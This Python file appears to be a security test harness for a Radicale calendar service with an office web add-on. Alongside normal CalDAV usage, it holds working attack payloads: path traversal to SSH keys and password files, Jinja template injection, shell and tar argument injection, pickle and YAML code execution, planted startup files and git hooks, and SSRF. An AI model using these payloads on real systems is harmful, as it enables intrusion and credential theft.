# SPDX-License-Identifier: Apache-2.0
"""Radicale with rights and a desk of the house's as its plug-ins."""
import base64
import os
import pickle
import urllib.parse

from passlib.hash import apr_md5_crypt

from attackers import Bomb, in_yaml
import stage

PEOPLE = ["anna", "bert", "cleo", "dora", "Jean Luc", "o.brien", "zoe-lu"]
RIGHTS = {"__init__.py": '''"""Everybody has his own, and reads what is of all."""
from radicale.rights import BaseRights


class Rights(BaseRights):
    shared = ("rooms",)

    def authorization(self, user, path):
        words = path.strip("/").split("/")
        if not user:
            return ""
        if words == [""]:
            return "R"
        if words[0] == user:
            return "RW" if len(words) == 1 else "rw"
        return "Rr" if words[0] in self.shared else ""
'''}
RIGHTS_NEW = {
    "__init__.py": RIGHTS["__init__.py"].replace(
        "import BaseRights\n", "import BaseRights\n\nfrom office_rights."
        "shares import SHARED\n").replace('("rooms",)', "SHARED"),
    "shares.py": "import configparser\nimport os\n\n"
                 "CONF = configparser.ConfigParser()\n"
                 "CONF.read(os.path.join(os.path.dirname(__file__),\n"
                 '                       "shares.ini"), "utf-8")\n'
                 'SHARED = tuple(CONF["shared"])\n',
    "shares.ini": "[shared]\nrooms = yes\ncars = yes\n"}
EVENT = """BEGIN:VCALENDAR\r
VERSION:2.0\r
PRODID:-//office//EN\r
BEGIN:VEVENT\r
UID:{uid}\r
DTSTAMP:20260101T080000Z\r
DTSTART:{start}\r
DTEND:{start}\r
SUMMARY:{what}\r
END:VEVENT\r
END:VCALENDAR\r
"""
CARD = """BEGIN:VCARD\r
VERSION:3.0\r
UID:{uid}\r
N:{name};;;;\r
FN:{name}\r
END:VCARD\r
"""
MAKE = """<?xml version="1.0"?><D:mkcol xmlns:D="DAV:"
 xmlns:C="urn:ietf:params:xml:ns:caldav"
 xmlns:R="urn:ietf:params:xml:ns:carddav"><D:set><D:prop><D:resourcetype>
 <D:collection/><{kind}/></D:resourcetype>
 <D:displayname>{title}</D:displayname></D:prop></D:set></D:mkcol>"""
PROPERTIES = """<?xml version="1.0"?><D:propfind xmlns:D="DAV:"><D:prop>
 <D:resourcetype/><D:displayname/><D:getetag/></D:prop></D:propfind>"""
RENAME = """<?xml version="1.0"?><D:propertyupdate xmlns:D="DAV:"><D:set>
 <D:prop><D:displayname>{title}</D:displayname></D:prop></D:set>
 </D:propertyupdate>"""
QUERY = """<?xml version="1.0"?>
<C:calendar-query xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav">
 <D:prop><D:getetag/><C:calendar-data/></D:prop><C:filter>
 <C:comp-filter name="VCALENDAR"><C:comp-filter name="VEVENT">
 <C:time-range start="{start}" end="20400101T000000Z"/></C:comp-filter>
 </C:comp-filter></C:filter></C:calendar-query>"""
SYNC = """<?xml version="1.0"?><D:sync-collection xmlns:D="DAV:">
 <D:sync-token>{token}</D:sync-token><D:sync-level>1</D:sync-level>
 <D:prop><D:getetag/></D:prop></D:sync-collection>"""


class Person:
    """Somebody with a client for calendars."""

    def __init__(self, base, name):
        self.browser = stage.Browser(base)
        self.name = name
        self.home = "/" + urllib.parse.quote(name)
        self.headers = {"Authorization": "Basic " + base64.b64encode(
            f"{name}:{name[::-1]}".encode()).decode()}

    def ask(self, method, path, body="", **headers):
        if isinstance(body, str):
            body = body.encode()
        headers = {name.replace("_", "-"): value
                   for name, value in headers.items()}
        return self.browser.fetch(
            path, body or None, {**self.headers, **headers}, method)

    def dav(self, method, path, body="", **headers):
        return self.ask(method, self.home + "/" + urllib.parse.quote(path),
                        body, **headers)

    def desk(self, page, body=None, **query):
        path = f"/.web/{page}?" + urllib.parse.urlencode(query, True)
        return self.ask("GET" if body is None else "POST", path, body or "")


class RadicaleOffice(stage.Service):
    """An office's calendars and addresses (Radicale, plug-ins, a hook)."""
    packages = ["radicale", "python3-passlib", "python3-vobject",
                "python3-jinja2", "python3-yaml", "git"]

    def arrange(self):
        stage.write(self.srv / "conf/users", "".join(
            f"{name}:{apr_md5_crypt.using(salt='saltsalt').hash(name[::-1])}\n"
            for name in PEOPLE) + f"# {stage.SECRET}\n", 0o600)
        self.install("office_rights", "3.0.0", RIGHTS)
        stage.write(self.home / ".gitconfig", "[user]\nname = office\n"
                    "email = office@example.org\n[gc]\nauto = 0\n")
        stage.write(self.srv / "data/.gitignore", ".Radicale.cache\n"
                    ".Radicale.lock\n.Radicale.tmp-*\n")
        status, text = self.run("git", "init", "-q", self.srv / "data",
                                wrapped=False)
        if status:
            raise stage.Broken(text)

    def arrange_benign(self):
        self.install("office_rights", "3.1.0", RIGHTS_NEW)

    def command(self):
        return [self.python, "-m", "radicale", "--config",
                "conf/radicale.conf", "--server-hosts",
                f"127.0.0.1:{self.port('web')}"]

    # ------------------------------------------------------------ ordinary use
    def person(self, name):
        return Person(f"http://127.0.0.1:{self.port('web')}", name)

    def make(self, who, name, title, kind="C:calendar"):
        self.expect_answer(f"{who.name} makes {name}", who.dav(
            "MKCOL", name + "/", MAKE.format(kind=kind, title=title)),
            status=201)

    def put(self, who, path, start, what):
        uid = path.rpartition("/")[2].rpartition(".")[0]
        self.expect_answer(f"{who.name} puts {path}", who.dav(
            "PUT", path, EVENT.format(uid=uid, start=start, what=what),
            Content_Type="text/calendar"), status=201)

    def sync(self, who, name, month):
        self.expect_answer("properties", who.dav(
            "PROPFIND", name + "/", PROPERTIES, Depth="1"), "getetag",
            status=207)
        self.expect_answer("query", who.dav(
            "REPORT", name + "/", QUERY.format(start=month + "T000000Z"),
            Depth="1"), "multistatus", status=207)
        body = self.expect_answer("sync", who.dav(
            "REPORT", name + "/", SYNC.format(token="")), "sync-token",
            status=207)
        return (body or b"").rpartition(b"<sync-token>")[2].partition(
            b"</sync-token>")[0].decode()

    def calendar(self, who, name, title, events):
        """A calendar from its making to what a client asks of it."""
        self.make(who, name, title)
        for path, start, what in events:
            self.put(who, f"{name}/{path}", start, what)
        first = events[0]
        token = self.sync(who, name, first[1][:8])
        self.expect_answer("one again", who.dav("GET", f"{name}/{first[0]}"),
                           "BEGIN:VEVENT")
        self.expect_answer("changed", who.dav(
            "PUT", f"{name}/{first[0]}", EVENT.format(
                uid=first[0].rpartition(".")[0], start=first[1],
                what="moved " + first[2])), status=201)
        self.expect_answer("deleted", who.dav(
            "DELETE", f"{name}/{events[-1][0]}"), "multistatus")
        self.expect_answer("sync since", who.dav(
            "REPORT", name + "/", SYNC.format(token=token)), "sync-token",
            status=207)
        self.expect_answer("renamed", who.dav(
            "PROPPATCH", name + "/", RENAME.format(title=title + " (new)")),
            status=207)
        self.expect_answer("all of it", who.dav("GET", name + "/"),
                           "VCALENDAR")

    def cards(self, who, name, people):
        self.make(who, name, "People", "R:addressbook")
        for number, person in enumerate(people):
            self.expect_answer(f"card of {person}", who.dav(
                "PUT", f"{name}/{number}-{person[:3]}.vcf", CARD.format(
                    uid=f"{number}-{person[:3]}", name=person),
                Content_Type="text/vcard"), status=201)
        self.expect_answer("all cards", who.dav("GET", name + "/"), "VCARD")

    def desk(self, who, calendar, month, kind, word, text, to):
        self.expect_answer("agenda", who.desk(
            "agenda", calendar=calendar, month=month), "<p>")
        self.expect_answer(f"export {kind}", who.desk(
            "export", calendar=calendar, kind=kind))
        self.expect_answer(f"search {word}", who.desk("search", word=word),
                           "found")
        self.expect_answer("letter", who.desk(
            "letter", text + ", {{ person }}", to=to), text)
        letter = next(iter((self.srv / "desk-data/letters").glob(
            f"*/{to}.txt")), None)
        self.expect("letter written", stage.wait_for(lambda: any((
            self.srv / "desk-data/letters").glob(f"*/{to}.txt"))), letter)
        self.expect_answer("settings", who.desk(
            "settings", f"view: {word}\ndays: [1, 2]\n"), "view")
        self.expect_answer("settings again", who.desk("settings"), "view")
        self.expect_answer("when", who.desk(
            "when", after=f"date({month[:4]}, 3, 4) + days(10)"), "03-14")
        self.expect_answer("restore", who.desk("restore", pickle.dumps(
            {"calendar": calendar, "month": month})), "calendar")

    def attach(self, who, name, body):
        self.expect_answer(f"attach {name}", who.desk(
            "attach", body, name=name), "kept", status=201)
        self.expect_answer(f"attached {name}", who.desk(
            "attached", name=name), body)

    def subscribe(self, who, page, name):
        self.site("school").page("*", EVENT)
        self.expect_answer(f"subscribe {page}", who.desk("subscribe", "go", **{
            "url": self.site("school").url + page, "as": name}), "VEVENT")

    def backup(self, who, *names):
        self.expect_answer(f"backup of {names}", who.desk(
            "backup", name=names), b"\x1f\x8b")

    def train(self, day):
        self.expect_answer("home", self.browser().get("/.web"), "the desk")
        self.expect_answer("nobody", self.browser().get("/anna/"),
                           status=401)
        for number, name in enumerate(("anna", "bert", "cleo")):
            who = self.person(name)
            title = ["office", "private", f"club-{day}"][number]
            month = f"2026-0{day + number}"
            stamp = month.replace("-", "")
            self.expect_answer("principal", who.ask(
                "PROPFIND", "/", PROPERTIES, Depth="0"), "multistatus",
                status=207)
            self.calendar(who, title, title.title(), [
                (f"{day}{number}{step}-{name}{stamp}.ics",
                 f"{stamp}{step + 10}T0{step}3000Z", f"{what} {day}")
                for step, what in enumerate(
                    ["meeting", "dentist", "lunch", "call"])])
            self.cards(who, ["people", f"friends{day}", "clients"][number],
                       ["Kim Lee", f"Max {day}", "Ute"][:number + 1])
            self.desk(who, title, month, ["csv", "text"][number % 2],
                      ["meeting", f"lunch {day}", "call"][number],
                      f"Dear all of day {day}",
                      ["team", f"guest{day}", "board"][number])
            self.attach(who, [f"plan-{day}.pdf", f"{month}/map.png",
                              f"notes v{day}.txt"][number], b"%PDF" * 30)
            self.subscribe(who, f"/terms/{month}.ics?class={day}b",
                           f"terms-{day}")
            self.backup(who, *[title, ["people", f"friends{day}",
                                       "clients"][number]][:1 + number % 2])
        who = self.person("bert")
        self.expect_answer("wrong password", self.person("eve").dav(
            "PROPFIND", "", PROPERTIES), status=401)
        self.expect_answer("somebody else's", who.ask(
            "PROPFIND", "/anna/office/", PROPERTIES), status=403)
        self.expect_answer("no such event", who.dav(
            "GET", f"private/none{day}.ics"), status=404)
        self.expect_answer("no event", who.dav(
            "PUT", f"private/torn{day}.ics", "BEGIN:VCALENDAR\r\n"),
            status=400)
        self.expect_answer("no attachment", who.desk(
            "attached", name=f"lost{day}.pdf"), status=400)
        self.expect_answer("no page", who.desk(f"page{day}"), status=404)
        self.expect_answer("moved", who.dav(
            "MOVE", f"private/{day}10-bert20260{day + 1}.ics", Destination=(
                f"http://127.0.0.1:{self.port('web')}/bert/private/"
                f"moved-{day}.ics"), Overwrite="F"), status=201)
        self.expect_answer("calendar gone", self.person("cleo").dav(
            "DELETE", f"club-{day}/"), "multistatus")

    def benign(self):
        for number, (name, title, month, to) in enumerate((
                ("Jean Luc", "Général", "2031-12", "équipe A"),
                ("o.brien", "team.v2 plans", "2027-10", "no. 7"),
                ("zoe-lu", "8f3a-77", "2026-06", "all_hands"),
                ("dora", "office", "2028-02", "dora"))):
            who = self.person(name)
            stamp = month.replace("-", "")
            self.calendar(who, title, title + " und mehr", [
                (f"{number}F{step}E-44b1 {what}.{stamp}.ics",
                 f"{stamp}{step + 20}T1{step}0000Z", f"{what} in 3. Stock")
                for step, what in enumerate(
                    ["review", "Zahnarzt", "a", "b", "c"])])
            self.cards(who, f"book {number}", ["Ana María", "X Æ", "O'Neil"])
            self.desk(who, title, month, ["text", "csv"][number % 2],
                      ["review", "Größe 3", "a.b", "none at all"][number],
                      "Grüße", to)
            self.attach(who, ["Vertrag Nr. 4 (Kopie).docx",
                              "2031/Q4/deep er/photo.heic", "x",
                              "archive.tar.xz"][number], b"\0\1" * 9000)
            self.subscribe(who, f"/a/b/{month}/holidays.php?land=fr&x=1",
                           f"holidays of {month}")
            self.backup(who, *[title, f"book {number}"][:1 + number % 2])
        anna = self.person("anna")
        self.make(anna, "office", "Office")
        self.put(anna, "office/2e6c.ics", "20300101T100000Z", "new year")
        self.sync(anna, "office", "20300101")
        self.expect_answer("a backup of more", self.person("zoe-lu").desk(
            "backup", name=["8f3a-77", "book 2"]), b"\x1f\x8b")
        self.expect_answer("wrong password", self.person("mal lory").dav(
            "PROPFIND", "", PROPERTIES), status=401)
        self.expect_answer("somebody else's", anna.ask(
            "GET", "/dora/office/"), status=403)
        self.expect_answer("no such event", anna.dav(
            "GET", "office/never was.ics"), status=404)
        self.expect_answer("no event", anna.dav(
            "PUT", "office/x y.ics", "nonsense"), status=400)
        self.expect_answer("no attachment", anna.desk(
            "attached", name="2031/no such.pdf"), status=400)
        self.expect_answer("no calendar", anna.desk(
            "agenda", calendar="holidays"), "nothing")
        self.expect_answer("no settings", anna.desk("settings"), status=400)
        self.expect_answer("no page", anna.desk("cellar"), status=404)
        self.expect_answer("feed is gone", anna.desk("subscribe", "go", **{
            "as": "x"}), status=400)
        self.expect_answer("moved", anna.dav(
            "MOVE", "office/2e6c.ics", Destination=(
                f"http://127.0.0.1:{self.port('web')}/anna/office/"
                "new%20year%202030.ics"), Overwrite="T"), status=201)
        self.expect_answer("limited", anna.dav("PROPFIND", "", PROPERTIES,
                                               Depth="1"), "office", status=207)
        self.restart()
        self.sync(anna, "office", "20260101")
        self.expect_answer("calendar gone", anna.dav("DELETE", "office/"),
                           "multistatus")

    def health(self):
        who = self.person("anna")
        if who.dav("GET", "office/")[0] != 200:
            self.make(who, "office", "Office")
        self.put(who, "office/1-anna.ics", "20260211T093000Z", "meeting")
        self.expect_answer("agenda", who.desk(
            "agenda", calendar="office", month="2026-02"), "meeting")

    # ----------------------------------------------------------------- attacks
    def anna(self, page, body=None, **query):
        return self.person("anna").desk(page, body, **query)[1]

    def attaches(self, name, text):
        if not isinstance(text, bytes):
            text = text.encode()
        self.anna("attach", text, name=str(name))

    def attached(self, name):
        self.attaches("plan-1.pdf", "%PDF")
        return self.anna("attached", name=str(name))

    def renders(self, code):
        """code: an expression."""
        return self.anna("letter", "{{ cycler.__init__.__globals__"
                         ".__builtins__." + code + " }}", to="team")

    def restores(self, *call):
        return self.anna("restore", pickle.dumps(Bomb(*call)))

    @stage.attack("traversal")
    def attachment_is_a_private_key(self):
        return self.is_told(self.attached(
            "../../../../home/.ssh/id_rsa"))

    @stage.attack("source disclosure")
    def attachment_is_the_source(self):
        return b"HOLE" in self.attached(self.srv / "desk/__init__.py")

    @stage.attack("secret disclosure")
    def attachment_is_the_passwords(self):
        return self.is_told(self.attached("../../../conf/users"))

    @stage.attack("secret disclosure")
    def attachment_is_the_environment(self):
        return b"HOME=" in self.attached("/proc/self/environ")

    @stage.attack("write to code", fresh=True)
    def attachment_becomes_an_exporter(self):
        def use(line):
            self.attaches(self.srv / "desk/exporters/evil.py",
                          f"import os\nos.system({line!r})\n")
            self.anna("export", calendar="office", kind="evil")
        return self.runs_line(use)

    @stage.attack("write to code", fresh=True)
    def attachment_replaces_a_template(self):
        path = self.srv / "templates/agenda.html"
        self.attaches(path, "planted")
        return "planted" in path.read_text()

    @stage.attack("write to start-up file", fresh=True)
    def attachment_is_a_pth_file(self):
        self.attaches(self.site_packages / "x.pth", "import os")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("write to start-up file", fresh=True)
    def letter_is_for_the_shell(self):
        """It goes by way of the clerk's tray, who appends .txt."""
        self.anna("letter", "planted", to=f"{self.home}/.bashrc.d/x")
        (self.home / ".bashrc.d").mkdir()
        self.anna("letter", "planted", to=f"{self.home}/.bashrc.d/x")
        return self.happens((self.home / ".bashrc.d/x.txt").exists)

    @stage.attack("write to code", fresh=True)
    def attachment_is_a_hook_of_git(self):
        path = self.srv / "data/.git/hooks/pre-commit"
        self.attaches(path, "#!/bin/sh\nid\n")
        return b"id" in path.read_bytes() if path.exists() else False

    @stage.attack("template injection")
    def letter_reads_a_password(self):
        return self.is_told(self.renders(
            f"open('{self.home}/.netrc').read()"))

    @stage.attack("template injection")
    def letter_runs_a_command(self):
        return self.runs_line(lambda line: self.renders(
            f"__import__('os').system('{line}')"))

    @stage.attack("exfiltration")
    def letter_sends_credentials(self):
        return self.steals(lambda code: self.renders(f"exec({code!r})"))

    @stage.attack("SSRF")
    def feed_is_an_internal_service(self):
        return self.fetches_inside(lambda url: self.anna(
            "subscribe", "go", **{"url": url, "as": "x"}))

    @stage.attack("SSRF")
    def feed_is_redirected_inside(self):
        return self.is_redirected_inside("school", lambda url: self.anna(
            "subscribe", "go", **{"url": url, "as": "x"}))

    @stage.attack("secret disclosure")
    def feed_is_a_local_file(self):
        return self.is_told(self.anna("subscribe", "go", **{
            "url": f"file://{self.place}/payroll/2026.csv", "as": "x"}))

    @stage.attack("command injection")
    def word_runs_a_command(self):
        return self.runs_line(lambda line: self.anna(
            "search", word=f'x" /dev/null; {line}; echo "'))

    @stage.attack("argument injection")
    def backup_runs_a_checkpoint(self):
        self.health()
        return self.runs_line(lambda line: self.anna("backup", name=[
            "office", "--checkpoint=1", f"--checkpoint-action=exec={line}"]))

    @stage.attack("traversal")
    def backup_holds_the_payroll(self):
        self.health()
        self.anna("backup", name=[f"{self.place}/payroll/2026.csv"])
        return any(b"payroll" in self.run("tar", "tzf", path, wrapped=False)
                   [1].encode() for path in (
                       self.srv / "desk-data/backups/anna").glob("*"))

    @stage.attack("unsafe pickle")
    def restore_runs_a_command(self):
        return self.runs_line(lambda line: self.restores(os.system, line))

    @stage.attack("reverse shell")
    def restore_calls_home(self):
        return self.calls_home(lambda code: self.restores(exec, code))

    @stage.attack("unsafe yaml")
    def settings_run_a_command(self):
        return self.runs_line(lambda line: self.anna("settings", in_yaml(
            f"import os; os.system({line!r})")))

    @stage.attack("fork+exec")
    def date_forks(self):
        return self.forks(lambda code: self.anna(
            "when", after=f"exec({code!r})"))

    @stage.attack("ctypes")
    def date_calls_libc(self):
        return self.runs_libc(lambda code: self.anna("when", after=code))

    @stage.attack("symlink swap", fresh=True)
    def attachment_became_a_link(self):
        self.attaches("plan-1.pdf", "%PDF")
        path = self.srv / "desk-data/attachments/anna/plan-1.pdf"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(self.anna("attached", name="plan-1.pdf"))

    @stage.attack("malicious plugin", fresh=True)
    def rights_send_credentials(self):
        return self.dependency_steals("office_rights", "3.0.1", RIGHTS,
                                      self.restart)
